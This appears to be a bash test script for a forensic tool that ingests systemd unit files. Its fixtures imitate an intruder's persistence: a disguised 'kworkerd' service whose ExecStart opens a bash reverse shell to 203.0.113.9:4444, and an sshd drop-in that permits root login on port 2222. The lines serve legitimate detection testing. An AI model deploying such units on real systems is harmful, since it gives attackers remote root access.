#!/usr/bin/env bash
# systemd units (systemd_unit): this machine's own vendor units as data (ExecStart= and
# OnCalendar= against grep), plus a local backdoor service, a drop-in and a user timer.
source "$(dirname "$0")/../lib.sh"
C=$TMP/case
H=$TMP/host
mkdir -p "$H/etc/systemd/system/ssh.service.d" "$H/home/alice/.config/systemd/user"
cat > "$H/etc/systemd/system/kworkerd.service" <<'U'
# dropped by the intruder
[Unit]
Description=Kernel worker daemon
After=network.target

[Service]
Type=simple
User=root
ExecStartPre=/bin/mkdir -p /var/tmp/.k
ExecStart=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'
Restart=always

[Install]
WantedBy=multi-user.target
U
printf '[Service]\nExecStart=\nExecStart=/usr/sbin/sshd -D -o PermitRootLogin=yes \\\n  -p 2222\n' > "$H/etc/systemd/system/ssh.service.d/override.conf"
printf '[Unit]\nDescription=sync\n[Timer]\nOnCalendar=*:0/15\nOnBootSec=5min\nUnit=sync.service\n[Install]\nWantedBy=timers.target\n' > "$H/home/alice/.config/systemd/user/sync.timer"
expect_rc ingest_units 0 "$KS" ingest -q "$C" "$H/etc/systemd/system/kworkerd.service" "$H/etc/systemd/system/ssh.service.d/override.conf" "$H/home/alice/.config/systemd/user/sync.timer"
expect_eq local_service "$(q "$C" "SELECT origin || '|' || unit_type || '|' || user || '|' || restart || '|' || wanted_by || '|' || exec_start_pre FROM systemd_unit WHERE unit='kworkerd.service'")" \
  "local|service|root|always|multi-user.target|/bin/mkdir -p /var/tmp/.k"
expect_eq service_event "$(q "$C" "SELECT message || '|' || target FROM events WHERE action='systemd_unit' AND actor='root'")" \
  "Kernel worker daemon|/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"
expect_eq dropin_reset_and_continuation "$(q "$C" "SELECT unit || '|' || unit_type || '|' || exec_start FROM systemd_unit WHERE unit LIKE 'ssh%'")" \
  "ssh.service.d/override.conf|conf|/usr/sbin/sshd -D -o PermitRootLogin=yes  -p 2222"
expect_eq user_timer "$(q "$C" "SELECT origin || '|' || on_calendar || '|' || on_boot_sec || '|' || timer_unit FROM systemd_unit WHERE unit='sync.timer'")" \
  "user|*:0/15|5min|sync.service"
expect_eq unit_time_is_mtime "$(q "$C" "SELECT count(*) FROM events WHERE source='systemd_unit' AND time_desc='file modified'")" "3"

# Real vendor units of this machine (skipped when there are none): files without
# continuation lines, compared with grep of their ExecStart= / OnCalendar= lines.
V=/lib/systemd/system
mapfile -t units < <(find "$V" -maxdepth 1 -type f \( -name '*.service' -o -name '*.timer' \) 2>/dev/null | sort | while read -r f; do grep -q '\\$' "$f" || echo "$f"; done | head -n 60)
if [ "${#units[@]}" -gt 0 ]; then
  C2=$TMP/case2
  mkdir -p "$TMP/v/usr/lib/systemd/system"
  for f in "${units[@]}"; do cp "$f" "$TMP/v/usr/lib/systemd/system/"; done
  "$KS" ingest -q "$C2" "$TMP/v/usr/lib/systemd/system" >/dev/null 2>&1
  expect_eq vendor_units_all_read "$(q "$C2" "SELECT count(*) FROM systemd_unit WHERE origin='vendor'")" "${#units[@]}"
  bad=0
  for f in "${units[@]}"; do
    b=$(basename "$f")
    for key in ExecStart OnCalendar; do
      col=exec_start; [ $key = OnCalendar ] && col=on_calendar
      # the oracle: the assignments in order, an empty one clearing the list
      want=$(sed -n "s/^$key=//p" "$f" | awk '{ if ($0 == "") n = 0; else l[++n] = $0 } END { for (i = 1; i <= n; i++) print l[i] }' | sed 's/[[:space:]]*$//')
      got=$(q "$C2" "SELECT coalesce($col, '') FROM systemd_unit WHERE unit='$b'")
      [ "$got" == "$want" ] || { bad=$((bad + 1)); echo "  $b $key: got [$got] want [$want]"; }
    done
  done
  expect_eq vendor_units_match_grep "$bad" "0"
else
  skip vendor_units "no unit files in $V"
fi
